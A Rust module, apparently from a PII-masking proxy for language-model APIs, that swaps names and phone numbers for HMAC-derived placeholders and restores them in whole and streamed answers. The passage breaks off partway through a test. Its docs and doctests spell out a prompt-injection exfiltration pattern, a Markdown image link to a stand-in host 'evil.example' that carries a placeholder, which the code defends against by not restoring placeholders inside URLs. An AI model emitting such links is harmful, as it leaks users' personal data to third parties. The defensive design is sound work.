//! Masking: replace findings with placeholders such as `〔氏名-K7Q2MX〕`, and restore
//! the originals in the response.
//!
//! One [`Placeholders`] table serves a whole request: the same value (same category,
//! same text) gets the same placeholder in every field, so the model can still refer to
//! "the same person". The table is the reverse map used by [`Placeholders::restore`]
//! and, for streamed responses, by [`StreamRestorer`].
//!
//! Placeholders are safe across the turns of a conversation: a placeholder is the
//! category label and the first [`CODE_LEN`] characters of a keyed HMAC of the value
//! for the caller ([`PlaceholderKey`]; the key is drawn from the OS RNG at start and
//! held only in memory). So the same person is `〔氏名-K7Q2MX〕` in every turn of one
//! caller, whether the client resends the history or the upstream keeps it
//! (`previous_response_id`); no numbering restarts; two values of one table never
//! share a placeholder (on a collision the later one gets a longer code). Each request's
//! table restores only what that request masked: an answer quoting a person of an
//! earlier turn who is not in this request keeps the placeholder, never another name.
//!
//! Text the user typed that looks like a placeholder (`〔氏名1〕` in a letter template,
//! see [`literal`] for the exact shape) is escaped on the way up and comes back exactly
//! as typed: it is masked like a value, as an entry of the table whose placeholder is
//! its escaped form (U+2060 WORD JOINER after the `〔`, which no issued placeholder
//! starts with) and whose original is the literal itself. So the one restore machinery
//! (whole bodies, every stream shape, `max_len` hold-back) unescapes it, and the real
//! value of a masked person can never land in its place. Escaped literals are restored
//! inside URLs too (they are the user's own text, not personal data), and are not
//! counted as masked values ([`Placeholders::len`]). Since the escape is stateless, an
//! escaped look-alike of an earlier turn that the upstream quotes back is unescaped
//! even when this request's table does not hold it (as long as the table is not
//! empty; with an empty table the answer passes untouched and keeps the invisible
//! escape).
//!
//! A placeholder the model wrote inside a URL (a Markdown link or image target, an
//! autolink, a bare URL, a URL attribute of an HTML tag) is not restored unless the
//! table says so ([`Placeholders::set_restore_in_urls`]): a prompt-injected answer such
//! as `![x](https://evil.example/c?n=〔氏名-K7Q2MX〕)` must not make the client's
//! renderer send the real name away. [`UrlContext`] tells where the URLs are.
//!
//! ```
//! use sekimori::inspect::EngineBuilder;
//! use sekimori::mask::Placeholders;
//! let engine = EngineBuilder::new().build().unwrap();
//! let text = "090-1234-5678に折り返し";
//! let mut table = Placeholders::new();
//! let masked = table.mask(text, &engine.scan(text));
//! assert!(masked.starts_with("〔電話-") && masked.ends_with("〕に折り返し"));
//! assert!(!masked.contains("5678"));
//! assert_eq!(table.restore(&masked), text);
//! ```

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

use crate::inspect::{Category, Finding};

mod key;
pub mod literal;
mod url_context;
pub mod vault;

pub use key::{KeyError, PlaceholderKey};
pub use url_context::UrlContext;
pub use vault::{InMemoryVault, Remembered, RestoreVault, VaultLimits};

use key::CallerKey;

/// How many characters of a value's code a placeholder carries (more on a collision
/// within one table): 30 bits, so two people of one caller share a code with
/// probability about one in a billion.
pub const CODE_LEN: usize = 6;

/// Opening bracket of a placeholder (U+3014).
pub const OPEN: char = '〔';
/// Closing bracket of a placeholder (U+3015).
pub const CLOSE: char = '〕';

/// The placeholders issued for one request and the values they stand for.
///
/// Its `Debug` output shows only how many placeholders were issued, never a value.
#[derive(Clone)]
pub struct Placeholders {
    /// The caller's key the codes are derived from.
    key: CallerKey,
    by_value: HashMap<(Category, String), usize>,
    /// `(placeholder, original)`, in issue order.
    entries: Vec<(String, String)>,
    /// Whether `entries[i]` is an escaped user-typed look-alike (see [`literal`]).
    is_literal: Vec<bool>,
    /// For each issued (not literal) entry: its category and the value's full code.
    issued: Vec<Option<(Category, String)>>,
    /// The caller's restore vault and id, when the caller has one (see [`vault`]).
    vault: Option<(Arc<dyn RestoreVault>, String)>,
    /// How many entries are escaped look-alikes.
    literals: usize,
    /// Placeholder → index in `entries`, for restoring.
    by_placeholder: HashMap<String, usize>,
    /// Length in bytes of the longest placeholder.
    max_len: usize,
    /// Whether placeholders inside URLs are restored too (default: not).
    restore_in_urls: bool,
}

impl Default for Placeholders {
    fn default() -> Self {
        Placeholders::for_caller(PlaceholderKey::process(), "")
    }
}

/// How a restored original is written into the surrounding text.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Escape {
    /// The text is plain text: the original is inserted as is.
    #[default]
    None,
    /// The text is JSON source (for example a tool call's `arguments` or an
    /// Anthropic `partial_json` fragment) and the placeholder sits inside a JSON string
    /// literal: the original is inserted JSON-escaped (quotes, backslashes, control
    /// characters), without surrounding quotes.
    JsonString,
}

impl fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Placeholders")
            .field("len", &self.entries.len())
            .finish_non_exhaustive()
    }
}

impl Placeholders {
    /// An empty table for an anonymous caller, keyed with [`PlaceholderKey::process`].
    pub fn new() -> Self {
        Self::default()
    }

    /// An empty table for `caller` (a user id): its placeholders are derived from
    /// `key` and `caller`, so the same value gets the same placeholder in every request
    /// of that caller (see the module documentation).
    pub fn for_caller(key: &PlaceholderKey, caller: &str) -> Self {
        Placeholders {
            key: key.for_caller(caller),
            by_value: HashMap::new(),
            entries: Vec::new(),
            is_literal: Vec::new(),
            issued: Vec::new(),
            vault: None,
            literals: 0,
            by_placeholder: HashMap::new(),
            max_len: 0,
            restore_in_urls: false,
        }
    }

    /// Whether the table restores nothing: no value masked, no look-alike escaped and
    /// no vault of earlier turns attached.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty() && self.vault.is_none()
    }

    /// Attaches `caller`'s restore vault (see [`vault`]): placeholders of earlier
    /// requests that an answer quotes are restored from it, and no placeholder is
    /// issued that it holds for another value. Attached only when the vault holds
    /// something for the caller, so a first request stays as cheap as before.
    pub fn with_vault(mut self, vault: Arc<dyn RestoreVault>, caller: &str) -> Self {
        let held = vault.max_placeholder_len(caller);
        if held > 0 {
            self.max_len = self.max_len.max(held);
            self.vault = Some((vault, caller.to_string()));
        }
        self
    }

    /// Hands every value this table issued to `vault` for `caller`, so later answers
    /// quoting their placeholders are restored.
    pub fn remember_in(&self, vault: &dyn RestoreVault, caller: &str) {
        let entries: Vec<Remembered<'_>> = self
            .entries
            .iter()
            .zip(&self.issued)
            .filter_map(|((placeholder, value), issued)| {
                issued.as_ref().map(|(category, code)| Remembered {
                    placeholder,
                    category,
                    code,
                    value,
                })
            })
            .collect();
        vault.remember(caller, &entries);
    }

    /// Number of values masked (escaped look-alikes not counted).
    pub fn len(&self) -> usize {
        self.entries.len() - self.literals
    }

    /// Number of user-typed placeholder look-alikes escaped.
    pub fn escaped_literals(&self) -> usize {
        self.literals
    }

    /// Whether `text` holds a placeholder look-alike that [`Placeholders::mask`] would
    /// escape (so the text must be rewritten even with nothing to mask).
    pub fn has_lookalike(text: &str) -> bool {
        text.contains(OPEN) && !literal::find(text).is_empty()
    }

    /// Restore placeholders inside URLs of the answer too (`true`), or leave them as
    /// they are (`false`, the default; see the module documentation).
    ///
    /// ```
    /// use sekimori::inspect::Category;
    /// use sekimori::mask::Placeholders;
    /// let mut t = Placeholders::new();
    /// let p = t.placeholder_for(&Category::Name, "山田太郎");
    /// let answer = format!("[{p}](https://evil.example/?n={p})");
    /// assert_eq!(t.restore(&answer), format!("[山田太郎](https://evil.example/?n={p})"));
    /// t.set_restore_in_urls(true);
    /// assert_eq!(t.restore(&answer), "[山田太郎](https://evil.example/?n=山田太郎)");
    /// ```
    pub fn set_restore_in_urls(&mut self, restore: bool) {
        self.restore_in_urls = restore;
    }

    /// Whether placeholders inside URLs are restored too.
    pub fn restores_in_urls(&self) -> bool {
        self.restore_in_urls
    }

    /// A fresh URL scanner for text written as `escape` says, or `None` when
    /// placeholders are restored in URLs too.
    pub(crate) fn url_context(&self, escape: Escape) -> Option<UrlContext> {
        (!self.restore_in_urls).then(|| UrlContext::new(escape))
    }

    /// The longest placeholder, in bytes (what a stream must hold back at most).
    pub fn max_placeholder_len(&self) -> usize {
        self.max_len
    }

    /// Replaces every finding in `text` with its placeholder, and escapes every
    /// placeholder look-alike outside the findings. Overlapping findings are merged
    /// into one placeholder (the category of the first wins).
    ///
    /// ```
    /// use sekimori::inspect::Category;
    /// use sekimori::mask::Placeholders;
    /// let mut t = Placeholders::new();
    /// let sent = t.mask("拝啓 〔氏名1〕様", &[]);
    /// assert_ne!(sent, "拝啓 〔氏名1〕様");
    /// assert_eq!(t.restore(&sent), "拝啓 〔氏名1〕様");
    /// assert_eq!((t.len(), t.escaped_literals()), (0, 1));
    /// ```
    pub fn mask(&mut self, text: &str, findings: &[Finding]) -> String {
        let mut spans: Vec<(usize, usize, &Category)> = findings
            .iter()
            .filter(|f| f.start < f.end && f.end <= text.len())
            .map(|f| (f.start, f.end, &f.category))
            .collect();
        spans.sort_by_key(|s| (s.0, std::cmp::Reverse(s.1)));
        let mut merged: Vec<(usize, usize, &Category)> = Vec::with_capacity(spans.len());
        for s in spans {
            match merged.last_mut() {
                Some(last) if s.0 < last.1 => last.1 = last.1.max(s.1),
                _ => merged.push(s),
            }
        }
        let mut spans: Vec<(usize, usize, Option<&Category>)> =
            merged.iter().map(|&(s, e, c)| (s, e, Some(c))).collect();
        if text.contains(OPEN) {
            for (s, e) in literal::find(text) {
                if !merged.iter().any(|m| s < m.1 && m.0 < e) {
                    spans.push((s, e, None));
                }
            }
            spans.sort_by_key(|s| s.0);
        }
        let mut out = String::with_capacity(text.len());
        let mut at = 0;
        for (s, e, cat) in spans {
            out.push_str(&text[at..s]);
            match cat {
                Some(cat) => out.push_str(&self.placeholder_for(cat, &text[s..e])),
                None => out.push_str(&self.escape_literal(&text[s..e])),
            }
            at = e;
        }
        out.push_str(&text[at..]);
        out
    }

    /// The placeholder for `value` of `category`, issuing a new one if needed:
    /// `〔label-CODE〕` with [`CODE_LEN`] characters of the value's code, more if
    /// another value of this table already holds that placeholder.
    pub fn placeholder_for(&mut self, category: &Category, value: &str) -> String {
        let key = (category.clone(), value.to_string());
        if let Some(&i) = self.by_value.get(&key) {
            return self.entries[i].0.clone();
        }
        let label = category.placeholder_label();
        let code = self.key.code(category, value);
        let held_elsewhere = |p: &str| {
            self.vault
                .as_ref()
                .is_some_and(|(v, caller)| v.conflicts(caller, p, &code))
        };
        let placeholder = (CODE_LEN..=code.len())
            .map(|n| format!("{OPEN}{label}-{}{CLOSE}", &code[..n]))
            .chain((2u32..).map(|n| format!("{OPEN}{label}-{code}-{n}{CLOSE}")))
            .find(|p| !self.by_placeholder.contains_key(p) && !held_elsewhere(p))
            .expect("an unbounded sequence of distinct placeholders");
        self.insert(placeholder.clone(), value.to_string());
        *self.issued.last_mut().expect("just inserted") = Some((category.clone(), code));
        self.by_value.insert(key, self.entries.len() - 1);
        placeholder
    }

    /// The escaped form of the user-typed look-alike `literal`, added to the table
    /// so the answer gives `literal` back.
    fn escape_literal(&mut self, literal: &str) -> String {
        let escaped = literal::escape(literal);
        if !self.by_placeholder.contains_key(&escaped) {
            self.insert(escaped.clone(), literal.to_string());
            *self.is_literal.last_mut().expect("just inserted") = true;
            self.literals += 1;
        }
        escaped
    }

    /// Adds an entry restoring `placeholder` to `original`.
    fn insert(&mut self, placeholder: String, original: String) {
        self.by_placeholder
            .insert(placeholder.clone(), self.entries.len());
        self.max_len = self.max_len.max(placeholder.len());
        self.entries.push((placeholder, original));
        self.is_literal.push(false);
        self.issued.push(None);
    }

    /// `(placeholder, original value)` pairs in issue order.
    pub fn entries(&self) -> &[(String, String)] {
        &self.entries
    }

    /// Replaces every placeholder in `text` with the value it stands for (inside URLs
    /// only if [`Placeholders::set_restore_in_urls`] said so).
    pub fn restore(&self, text: &str) -> String {
        self.restore_escaped(text, Escape::None)
    }

    /// Replaces every placeholder in `text` with the value it stands for, written as
    /// `escape` says.
    ///
    /// ```
    /// use sekimori::inspect::Category;
    /// use sekimori::mask::{Escape, Placeholders};
    /// let mut t = Placeholders::new();
    /// let p = t.placeholder_for(&Category::Name, "\"山田\"");
    /// assert_eq!(t.restore_escaped(&format!("{{\"n\":\"{p}\"}}"), Escape::JsonString),
    ///            "{\"n\":\"\\\"山田\\\"\"}");
    /// ```
    pub fn restore_escaped(&self, text: &str, escape: Escape) -> String {
        let mut ctx = self.url_context(escape);
        self.restore_with(text, escape, ctx.as_mut())
    }

    /// [`Placeholders::restore_escaped`] for the next piece of a text whose URL context
    /// `ctx` has seen everything before `text` (and is fed `text`); `None`: restore in
    /// URLs too.
    pub(crate) fn restore_with(
        &self,
        text: &str,
        escape: Escape,
        mut ctx: Option<&mut UrlContext>,
    ) -> String {
        if self.is_empty() || !text.contains(OPEN) {
            if let Some(c) = ctx {
                c.feed_str(text);
            }
            return text.to_string();
        }
        // Every placeholder starts with `〔` and ends with `〕` (see `placeholder_for`),
        // so leftmost-longest matching needs no automaton: at each `〔`, from left to
        // right, the longest issued placeholder ending at one of the next `〕` within
        // the longest placeholder's length; after a match, go on after it.
        let mut out = String::with_capacity(text.len());
        let mut copied = 0;
        let mut from = 0;
        // What `ctx` has been fed of `text`.
        let mut fed = 0;
        while let Some(rel) = text[from..].find(OPEN) {
            let start = from + rel;
            let hit = text[start..]
                .match_indices(CLOSE)
                .map(|(i, _)| start + i + CLOSE.len_utf8())
                .take_while(|&end| end - start <= self.max_len)
                .filter_map(|end| self.lookup(&text[start..end]).map(|hit| (end, hit)))
                .last();
            match hit {
                // An escaped look-alike is the user's own text: unescaped everywhere.
                Some((end, ref hit))
                    if !matches!(hit, Hit::Entry(i) if self.is_literal[*i])
                        && ctx.as_deref_mut().is_some_and(|c| {
                            // The placeholder's place is decided at its opening bracket.
                            let open_end = start + OPEN.len_utf8();
                            c.feed_str(&text[fed..open_end]);
                            let in_url = c.in_url();
                            c.feed_str(&text[open_end..end]);
                            fed = end;
                            in_url
                        }) =>
                {
                    // Inside a URL: left as the model wrote it.
                    from = end;
                }
                Some((end, hit)) => {
                    out.push_str(&text[copied..start]);
                    let original = match &hit {
                        Hit::Entry(i) => self.entries[*i].1.as_str(),
                        Hit::Recalled(v) => v.as_str(),
                    };
                    match escape {
                        Escape::None => out.push_str(original),
                        Escape::JsonString => push_json_escaped(&mut out, original),
                    }
                    copied = end;
                    from = end;
                }
                None => match literal::escaped_end(&text[start..]) {
                    // An escaped look-alike of an earlier turn that this table does
                    // not hold: unescaped all the same (the escape is stateless).
                    Some(len) => {
                        out.push_str(&text[copied..start]);
                        out.push(OPEN);
                        out.push_str(
                            &text
                                [start + OPEN.len_utf8() + literal::ESCAPE.len_utf8()..start + len],
                        );
                        copied = start + len;
                        from = start + len;
                    }
                    None => from = start + OPEN.len_utf8(),
                },
            }
        }
        out.push_str(&text[copied..]);
        if let Some(c) = ctx {
            c.feed_str(&text[fed..]);
        }
        out
    }

    /// What `candidate` (a `〔…〕` span) stands for: an entry of this table, or a value
    /// of the caller's vault.
    fn lookup(&self, candidate: &str) -> Option<Hit> {
        if let Some(&i) = self.by_placeholder.get(candidate) {
            return Some(Hit::Entry(i));
        }
        let (vault, caller) = self.vault.as_ref()?;
        vault.recall(caller, candidate).map(Hit::Recalled)
    }

    /// Kept for callers that prepared the restore matcher once the table was complete;
    /// restoring needs no preparation any more (placeholders are found by their
    /// brackets and looked up), so this does nothing.
    pub fn seal(&mut self) {}

    /// Byte index from which `pending` must be held back: the last `〔` whose tail is
    /// still a proper prefix of an issued placeholder, or `pending.len()` if none.
    fn hold_point(&self, pending: &str, max_len: usize) -> usize {
        match pending.rfind(OPEN) {
            Some(i)
                if !pending[i..].contains(CLOSE)
                    && pending.len() - i < max_len.max(literal::MAX_ESCAPED_BYTES) =>
            {
                let tail = &pending[i..];
                if (pending.len() - i < max_len
                    && (self.vault.is_some()
                        || self.entries.iter().any(|(ph, _)| ph.starts_with(tail))))
                    || literal::may_start_escaped(tail)
                {
                    i
                } else {
                    pending.len()
                }
            }
            _ => pending.len(),
        }
    }
}

/// What a placeholder found in an answer stands for.
enum Hit {
    /// `entries[i]` of the table.
    Entry(usize),
    /// A value of an earlier request, from the caller's vault.
    Recalled(String),
}

/// Restores placeholders in a response that arrives in pieces.
///
/// Text is released as soon as it cannot be the start of a placeholder; only a tail that
/// begins with `〔` and is still shorter than the longest placeholder is held back. So a
/// stream with no pending placeholder is forwarded at once, and a placeholder split
/// across any chunk boundary is still restored.
///
/// ```
/// use sekimori::inspect::Category;
/// use sekimori::mask::{Placeholders, StreamRestorer};
/// let mut t = Placeholders::new();
/// let p = t.placeholder_for(&Category::Name, "山田太郎");
/// let mut r = StreamRestorer::new(&t);
/// let mut out = String::new();
/// for piece in ["こんにちは、〔氏", &format!("{}さん", &p["〔氏".len()..])] {
///     out.push_str(&r.push(piece));
/// }
/// out.push_str(&r.finish());
/// assert_eq!(out, "こんにちは、山田太郎さん");
/// ```
#[derive(Clone)]
pub struct StreamRestorer<'t> {
    table: &'t Placeholders,
    pending: String,
    max_len: usize,
    /// URL context of everything released so far (`None`: restore in URLs too).
    ctx: Option<UrlContext>,
}

/// Shows how much is held, never the text.
impl fmt::Debug for StreamRestorer<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("StreamRestorer")
            .field("held_bytes", &self.pending.len())
            .finish_non_exhaustive()
    }
}

impl<'t> StreamRestorer<'t> {
    /// A restorer for the placeholders of one request.
    pub fn new(table: &'t Placeholders) -> Self {
        StreamRestorer {
            table,
            pending: String::new(),
            max_len: table.max_placeholder_len(),
            ctx: table.url_context(Escape::None),
        }
    }

    /// Takes the next piece of text and returns what can be released now.
    pub fn push(&mut self, piece: &str) -> String {
        if self.table.is_empty() {
            return piece.to_string();
        }
        self.pending.push_str(piece);
        let hold_from = self.hold_point();
        let ready: String = self.pending[..hold_from].to_string();
        self.pending.drain(..hold_from);
        self.table
            .restore_with(&ready, Escape::None, self.ctx.as_mut())
    }

    /// Releases whatever is still held at the end of the stream.
    pub fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.pending);
        self.table
            .restore_with(&rest, Escape::None, self.ctx.as_mut())
    }

    /// Byte index from which `pending` must be held.
    fn hold_point(&self) -> usize {
        self.table.hold_point(&self.pending, self.max_len)
    }
}

/// Appends `s` to `dst` escaped for the inside of a JSON string literal.
fn push_json_escaped(dst: &mut String, s: &str) {
    for c in s.chars() {
        match c {
            '"' => dst.push_str("\\\""),
            '\\' => dst.push_str("\\\\"),
            '\n' => dst.push_str("\\n"),
            '\r' => dst.push_str("\\r"),
            '\t' => dst.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                dst.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => dst.push(c),
        }
    }
}

/// An owned [`StreamRestorer`]: shares the table through an [`Arc`], so it can live
/// inside a response body stream for as long as the stream, and writes restored
/// values as [`Escape`] says.
///
/// ```
/// use std::sync::Arc;
/// use sekimori::inspect::Category;
/// use sekimori::mask::{Escape, Placeholders, SharedStreamRestorer};
/// let mut t = Placeholders::new();
/// let p = t.placeholder_for(&Category::Name, "山田太郎");
/// let mut r = SharedStreamRestorer::new(Arc::new(t), Escape::None);
/// assert_eq!(r.push("こんにちは、〔氏"), "こんにちは、");
/// assert!(r.is_holding());
/// assert_eq!(r.push(&format!("{}さん", &p["〔氏".len()..])), "山田太郎さん");
/// assert_eq!(r.finish(), "");
/// ```
#[derive(Clone)]
pub struct SharedStreamRestorer {
    table: Arc<Placeholders>,
    pending: String,
    max_len: usize,
    escape: Escape,
    /// URL context of everything released so far (`None`: restore in URLs too).
    ctx: Option<UrlContext>,
}

/// Shows how much is held, never the text.
impl fmt::Debug for SharedStreamRestorer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SharedStreamRestorer")
            .field("held_bytes", &self.pending.len())
            .field("escape", &self.escape)
            .finish_non_exhaustive()
    }
}

impl SharedStreamRestorer {
    /// A restorer for the placeholders of one request.
    pub fn new(table: Arc<Placeholders>, escape: Escape) -> Self {
        let max_len = table.max_placeholder_len();
        let ctx = table.url_context(escape);
        SharedStreamRestorer {
            table,
            pending: String::new(),
            max_len,
            escape,
            ctx,
        }
    }

    /// Takes the next piece of text and returns what can be released now.
    pub fn push(&mut self, piece: &str) -> String {
        if self.table.is_empty() {
            return piece.to_string();
        }
        if self.pending.is_empty() && !piece.contains(OPEN) {
            if let Some(c) = &mut self.ctx {
                c.feed_str(piece);
            }
            return piece.to_string();
        }
        self.pending.push_str(piece);
        let hold_from = self.table.hold_point(&self.pending, self.max_len);
        let ready =
            self.table
                .restore_with(&self.pending[..hold_from], self.escape, self.ctx.as_mut());
        self.pending.drain(..hold_from);
        ready
    }

    /// A restorer for the text that follows what this one restored (the next content
    /// block or part of the same answer, which a client may render glued to this one):
    /// same table and escape, nothing held, and the URL context carries over, so
    /// `![x](https://evil.example/?n=` in one block and `〔氏名-K7Q2MX〕)` in the next still
    /// count as one URL.
    ///
    /// ```
    /// use std::sync::Arc;
    /// use sekimori::inspect::Category;
    /// use sekimori::mask::{Escape, Placeholders, SharedStreamRestorer};
    /// let mut t = Placeholders::new();
    /// let p = t.placeholder_for(&Category::Name, "山田太郎");
    /// let mut first = SharedStreamRestorer::new(Arc::new(t), Escape::None);
    /// assert_eq!(first.push("![x](https://evil.example/?n="), "![x](https://evil.example/?n=");
    /// first.finish();
    /// let mut next = first.continuing();
    /// assert_eq!(next.push(&format!("{p}) {p}")), format!("{p}) 山田太郎"));
    /// ```
    pub fn continuing(&self) -> SharedStreamRestorer {
        SharedStreamRestorer {
            table: self.table.clone(),
            pending: String::new(),
            max_len: self.max_len,
            escape: self.escape,
            ctx: self.ctx.clone(),
        }
    }

    /// How restored values are written.
    pub fn escape(&self) -> Escape {
        self.escape
    }

    /// Whether a possible partial placeholder is being held back.
    pub fn is_holding(&self) -> bool {
        !self.pending.is_empty()
    }

    /// Releases whatever is still held (restored if complete, literally otherwise).
    pub fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.pending);
        self.table
            .restore_with(&rest, self.escape, self.ctx.as_mut())
    }
}

/// Test helper: `text` with every `〔label N〕` (no space: `〔氏名1〕`) replaced by
/// the N-th placeholder this table issued for that label, so tests can be written in
/// the old numbered notation and still run against derived placeholders.
#[cfg(test)]
impl Placeholders {
    /// Test helper for the restore machinery (streams, JSON bodies, URLs), which does
    /// not care how placeholders are named: adds an entry with a fixed placeholder,
    /// so fixtures can split `〔氏名1〕` across events at every byte.
    pub(crate) fn with_fixed(&mut self, placeholder: &str, value: &str) {
        self.insert(placeholder.to_string(), value.to_string());
    }

    pub(crate) fn fill_ordinals(&self, text: &str) -> String {
        let mut counts: HashMap<&str, u32> = HashMap::new();
        let mut out = text.to_string();
        for (ph, _) in &self.entries {
            let inner = &ph[OPEN.len_utf8()..ph.len() - CLOSE.len_utf8()];
            let Some((label, _)) = inner.split_once('-') else {
                continue;
            };
            let n = counts.entry(label).or_insert(0);
            *n += 1;
            out = out.replace(&format!("{OPEN}{label}{n}{CLOSE}"), ph);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Placeholders {
        let mut t = Placeholders::new();
        t.placeholder_for(&Category::Name, "山田太郎");
        t.placeholder_for(&Category::Phone, "090-1234-5678");
        t
    }

    #[test]
    fn same_value_same_placeholder() {
        let mut t = Placeholders::new();
        let a = t.placeholder_for(&Category::Name, "山田");
        let b = t.placeholder_for(&Category::Name, "佐藤");
        let c = t.placeholder_for(&Category::Name, "山田");
        assert_eq!(a, c);
        assert_ne!(a, b);
        let shape = regex::Regex::new("^〔氏名-[0-9A-HJKMNP-TV-Z]{6}〕$").unwrap();
        assert!(shape.is_match(&a) && shape.is_match(&b), "{a} {b}");
        assert_eq!(t.fill_ordinals("〔氏名2〕〔氏名1〕"), format!("{b}{a}"));
    }

    #[test]
    fn placeholders_are_stable_per_caller_across_tables() {
        let key = PlaceholderKey::from_bytes([9; 32]);
        let mut turn1 = Placeholders::for_caller(&key, "u-1");
        let mut turn2 = Placeholders::for_caller(&key, "u-1");
        let hina = turn1.placeholder_for(&Category::Name, "森川陽菜");
        // Another person first in the next request: no numbering to restart.
        let taro = turn2.placeholder_for(&Category::Name, "北村太郎");
        assert_eq!(turn2.placeholder_for(&Category::Name, "森川陽菜"), hina);
        assert_ne!(taro, hina);
        // The earlier turn's table does not know the later person: stays a placeholder.
        assert_eq!(turn1.restore(&taro), taro);
        let mut other = Placeholders::for_caller(&key, "u-2");
        assert_ne!(other.placeholder_for(&Category::Name, "森川陽菜"), hina);
    }

    #[test]
    fn typed_lookalikes_come_back_as_typed_whole_streamed_and_in_urls() {
        let key = PlaceholderKey::from_bytes([3; 32]);
        let mut t = Placeholders::for_caller(&key, "u");
        let issued = t.placeholder_for(&Category::Name, "森川陽菜");
        // The user also typed the issued placeholder itself, an old-style one, an
        // already escaped one and a look-alike in a URL.
        let typed = format!(
            "拝啓 〔氏名1〕様 {issued} 〔\u{2060}氏名1〕 [x](https://e.example/?n=〔電話1〕)"
        );
        let findings = [];
        let sent = t.mask(&typed, &findings);
        assert_eq!(t.escaped_literals(), 4);
        assert_eq!(t.len(), 1);
        assert!(!sent.contains("拝啓 〔氏名1〕") && !sent.contains(&format!(" {issued} ")));
        // The model echoes the escaped text and quotes the masked person.
        let answer = format!("{sent} / {issued}");
        let want = format!("{typed} / 森川陽菜");
        assert_eq!(t.restore(&answer), want);
        let shared = Arc::new(t.clone());
        let bounds: Vec<usize> = answer
            .char_indices()
            .map(|(i, _)| i)
            .chain([answer.len()])
            .collect();
        for &a in &bounds {
            let mut r = SharedStreamRestorer::new(shared.clone(), Escape::None);
            let got = r.push(&answer[..a]) + &r.push(&answer[a..]) + &r.finish();
            assert_eq!(got, want, "split at {a}");
        }
        // A finding overlapping a look-alike wins.
        let text = "〔090-1234-5678〕";
        let f = Finding {
            category: Category::Phone,
            start: "〔".len(),
            end: text.len() - "〕".len(),
            char_start: 1,
            char_end: 14,
            detector: "phone",
            confidence: 1.0,
            reason: "test",
        };
        let mut t = Placeholders::for_caller(&key, "u");
        let sent = t.mask(text, &[f]);
        assert!(
            !sent.contains("5678") && t.escaped_literals() == 0,
            "{sent}"
        );
    }

    #[test]
    fn colliding_codes_get_longer_placeholders() {
        // Force a collision: many values, and a table that already holds every
        // six-character placeholder they would get is simulated by issuing a value
        // twice under different categories sharing one label.
        let mut t = Placeholders::new();
        let a = t.placeholder_for(&Category::WordList("語".into()), "x");
        let code = t.key.code(&Category::WordList("語".into()), "y");
        let fake = format!("{OPEN}語-{}{CLOSE}", &code[..CODE_LEN]);
        t.insert(fake.clone(), "someone else".into());
        let b = t.placeholder_for(&Category::WordList("語".into()), "y");
        assert_ne!(a, b);
        assert_ne!(b, fake);
        assert_eq!(b, format!("{OPEN}語-{}{CLOSE}", &code[..CODE_LEN + 1]));
        assert_eq!(t.restore(&b), "y");
        assert_eq!(t.restore(&fake), "someone else");
    }

    #[test]
    fn restore_matches_leftmost_longest_automaton() {
        // The bracket scan must replace exactly what a leftmost-longest Aho-Corasick
        // over the placeholders replaces, including an entry that is another's prefix up to a `〕`, stray
        // and nested brackets, and placeholders glued to each other.
        let mut t = Placeholders::new();
        for i in 0..12 {
            t.placeholder_for(&Category::Name, &format!("名{i}"));
        }
        t.placeholder_for(&Category::Phone, "0");
        // Entries one of which is a prefix of another up to a closing bracket.
        t.insert("〔氏名-A〕".into(), "甲".into());
        t.insert("〔氏名-A〕B〕".into(), "乙".into());
        let ac = aho_corasick::AhoCorasick::builder()
            .match_kind(aho_corasick::MatchKind::LeftmostLongest)
            .build(t.entries().iter().map(|(p, _)| p.as_str()))
            .unwrap();
        let reference = |text: &str| {
            let mut out = String::new();
            ac.replace_all_with(text, &mut out, |m, _, dst| {
                dst.push_str(&t.entries()[m.pattern().as_usize()].1);
                true
            });
            out
        };
        let first = &t.entries()[0].0;
        let code = &first["〔氏名-".len()..first.len() - "〕".len()];
        let phone = &t.entries()[12].0;
        let pieces = [
            "〔",
            "〕",
            "氏名-",
            &code[..3],
            &code[3..],
            &phone["〔".len()..],
            "A",
            "B",
            "〔〔",
            "〕〕",
            "あ",
        ];
        // Every string of up to four pieces, plus glued and nested placeholders.
        let mut texts: Vec<String> = [
            "〔氏名1〕〔氏名10〕〔電話1〕",
            "〔〔氏名11〕〕〔氏名1〔氏名2〕",
            "〔氏名1〕0〕〔氏名12〕〔氏名-A〕B〕",
        ]
        .iter()
        .map(|s| t.fill_ordinals(s))
        .collect();
        for _ in 0..4 {
            let mut next = Vec::new();
            for base in &texts {
                for p in pieces {
                    next.push(format!("{base}{p}"));
                }
            }
            texts.extend(next);
            texts.sort();
            texts.dedup();
        }
        for text in &texts {
            assert_eq!(t.restore(text), reference(text), "{text}");
        }
    }

    #[test]
    fn restore_replaces_all() {
        let t = table();
        assert_eq!(
            t.restore(&t.fill_ordinals("〔氏名1〕様 〔電話1〕 〔氏名1〕")),
            "山田太郎様 090-1234-5678 山田太郎"
        );
        assert_eq!(t.restore("〔氏名9〕"), "〔氏名9〕");
    }

    #[test]
    fn stream_restore_at_every_split() {
        let t = table();
        let text = &t.fill_ordinals("前〔氏名1〕中〔電話1〕後〔不明〕");
        let want = "前山田太郎中090-1234-5678後〔不明〕";
        let bounds: Vec<usize> = text
            .char_indices()
            .map(|(i, _)| i)
            .chain([text.len()])
            .collect();
        for &a in &bounds {
            for &b in &bounds {
                if b < a {
                    continue;
                }
                let mut r = StreamRestorer::new(&t);
                let mut out = r.push(&text[..a]);
                out += &r.push(&text[a..b]);
                out += &r.push(&text[b..]);
                out += &r.finish();
                assert_eq!(out, want, "split at {a},{b}");
            }
        }
    }

    #[test]
    fn debug_output_never_shows_values() {
        let t = table();
        let mut r = StreamRestorer::new(&t);
        r.push("〔氏");
        let shared = Arc::new(t.clone());
        let mut s = SharedStreamRestorer::new(shared, Escape::None);
        s.push("〔氏");
        for dbg in [format!("{t:?}"), format!("{r:?}"), format!("{s:?}")] {
